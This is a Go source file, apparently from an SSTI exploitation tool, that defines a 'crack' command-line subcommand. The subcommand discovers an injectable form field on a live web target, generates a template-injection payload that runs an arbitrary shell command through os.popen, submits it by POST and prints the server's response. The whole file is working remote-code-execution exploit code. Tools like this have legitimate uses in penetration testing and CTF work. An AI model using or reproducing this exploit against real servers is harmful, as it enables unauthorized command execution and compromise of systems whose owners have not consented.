package main

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"

	"github.com/spf13/cobra"
	"go.uber.org/zap"

	"github.com/FunctFan/fenjing-go/internal/explain"
	"github.com/FunctFan/fenjing-go/internal/probe"
	"github.com/FunctFan/fenjing-go/internal/ssti"
)

var (
	crackTargetURL     string
	crackCandidateFlds []string
	crackShellCmd      string
)

var crackCmd = &cobra.Command{
	Use:   "crack",
	Short: "discover the injectable field on a live form and execute a shell command through it",
	Long: `crack runs field discovery to pick the form field most likely to be the
SSTI sink, then generates an OS_POPEN_READ payload that runs --cmd on the
target and echoes its output, submits it, and prints what the target's
response contained.

Candidate fields default to the name attributes scraped from the target
page's first form; pass --fields to probe an explicit list instead.

If the discovered wrapper doesn't echo output (will_echo=false), the payload
is still printed since it may still have executed, just not visibly.`,
	RunE: runCrack,
}

func init() {
	crackCmd.Flags().StringVar(&crackTargetURL, "target", "", "target form URL (required)")
	crackCmd.Flags().StringSliceVar(&crackCandidateFlds, "fields", nil, "candidate field names to probe (default: scraped from the target form)")
	crackCmd.Flags().StringVar(&crackShellCmd, "cmd", "id", "shell command to execute on the target")
	crackCmd.MarkFlagRequired("target")
}

func runCrack(cmd *cobra.Command, args []string) error {
	ctx := context.Background()

	candidates := crackCandidateFlds
	if len(candidates) == 0 {
		var err error
		candidates, err = probe.DiscoverFields(ctx, nil, crackTargetURL)
		if err != nil {
			return fmt.Errorf("field discovery failed (pass --fields to skip scraping): %w", err)
		}
		logger.Info("scraped candidate fields from target form",
			zap.Strings("fields", candidates))
	}

	fuzzer := probe.NewFuzzer(crackTargetURL, timeout, cfg.Oracle.ConcurrentProbes)
	field, httpOracle, err := fuzzer.DeriveOracle(ctx, candidates)
	if err != nil {
		return fmt.Errorf("field discovery failed: %w", err)
	}
	logger.Info("selected injection field", zap.String("field", field))
	fmt.Println(styleInfo.Render("injecting via field: " + field))

	oracle := probe.Memoize(probe.Logged(probe.WithRetry(httpOracle.Oracle(), cfg.Oracle.Retries, cfg.Oracle.VoteThresh)))

	ledger, err := explain.NewLedger()
	if err != nil {
		return fmt.Errorf("open ledger: %w", err)
	}
	defer func() {
		if err := ledger.Save(ledgerPath()); err != nil {
			logger.Warn("failed to save explain ledger", zap.Error(err))
		}
		ledger.Close()
	}()

	asm := ssti.NewAssembler(oracle, ledger.Sink())
	if !asm.Prepare() {
		return fmt.Errorf("preparation failed: target rejects every outer statement shell")
	}

	payload, willEcho, ok := asm.Generate(ssti.OSPopenRead(crackShellCmd))
	if !ok {
		return fmt.Errorf("failed to generate an OS_POPEN_READ payload for %q", crackShellCmd)
	}
	logger.Info("payload generated",
		zap.String("cmd", crackShellCmd),
		zap.Bool("will_echo", willEcho))
	fmt.Println(payload)
	if !willEcho {
		logger.Warn("selected outer wrapper does not echo; the command may still execute invisibly")
		fmt.Println(styleWarn.Render("will not echo: the command's output is not included in the response"))
	}

	body, err := submitForm(ctx, crackTargetURL, field, payload)
	if err != nil {
		return fmt.Errorf("submit payload: %w", err)
	}
	fmt.Println(styleSuccess.Render("--- response ---"))
	fmt.Println(body)
	return nil
}

func submitForm(ctx context.Context, targetURL, field, value string) (string, error) {
	form := url.Values{}
	form.Set(field, value)

	req, err := http.NewRequestWithContext(ctx, http.MethodPost, targetURL, strings.NewReader(form.Encode()))
	if err != nil {
		return "", err
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")

	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()

	b, err := io.ReadAll(resp.Body)
	if err != nil {
		return "", err
	}
	return string(b), nil
}
